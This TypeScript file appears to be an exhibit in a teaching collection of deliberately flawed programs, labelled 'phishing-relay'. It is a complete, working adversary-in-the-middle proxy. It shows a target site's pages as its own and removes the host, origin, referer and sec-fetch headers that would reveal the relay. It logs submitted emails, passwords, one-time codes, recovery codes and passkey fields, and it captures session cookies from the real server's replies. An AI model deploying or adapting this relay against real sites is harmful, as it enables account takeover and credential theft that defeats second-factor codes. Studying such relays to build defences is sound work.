/**
 * Wrong on purpose: phishing-relay. The server is right, but its user is at another address: this
 * program shows the pages of TARGET as its own, passes on what is typed there, and prints the
 * secrets that it sees.
 */
import { request as ask, type IncomingMessage } from 'node:http';
import { startMuseum } from './museum.ts';

const { TARGET = 'http://localhost:3000' } = process.env;
const SECRETS = ['email', 'password', 'code', 'recovery', 'passkey'];
// These would tell the server that the browser is somewhere else.
const BETRAYING = /^(?:host|origin|referer|sec-fetch-.*)$/;

startMuseum('phishing-relay', 'It is not the site that it shows.', async (request, response) => {
  const body = await bodyOf(request);
  for (const [name, value] of new URLSearchParams(body)) {
    if (SECRETS.includes(name)) say(name, value);
  }
  const headers = Object.entries(request.headers).filter(([name]) => !BETRAYING.test(name));
  const passedOn = ask(`${TARGET}${request.url}`, {
    method: request.method,
    headers: Object.fromEntries(headers),
  });
  passedOn.on('response', (reply) => {
    for (const cookie of reply.headers['set-cookie'] ?? []) {
      if (/^session=./.test(cookie)) say('cookie', cookie.split(';')[0] ?? '');
    }
    response.writeHead(reply.statusCode ?? 502, reply.headers);
    reply.pipe(response);
  });
  passedOn.end(body);
});

async function bodyOf(request: IncomingMessage): Promise<string> {
  const chunks: Buffer[] = [];
  for await (const chunk of request) chunks.push(chunk);
  return Buffer.concat(chunks).toString();
}

function say(name: string, value: string): void {
  process.stdout.write(`stolen ${name}: ${value.slice(0, 60)}\n`);
}
